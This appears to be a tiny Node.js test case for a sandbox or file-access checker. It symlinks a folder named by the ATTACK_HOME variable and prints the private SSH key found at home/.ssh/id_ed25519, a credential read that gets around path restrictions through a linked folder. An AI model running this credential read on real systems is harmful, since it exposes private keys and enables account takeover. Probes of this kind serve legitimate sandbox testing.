// Reads through a linked folder with Node.
// evidence: read
// bare: works
import { readFileSync, symlinkSync } from "node:fs";
symlinkSync(process.env.ATTACK_HOME, "home");
console.log(readFileSync("home/.ssh/id_ed25519", "utf8"));
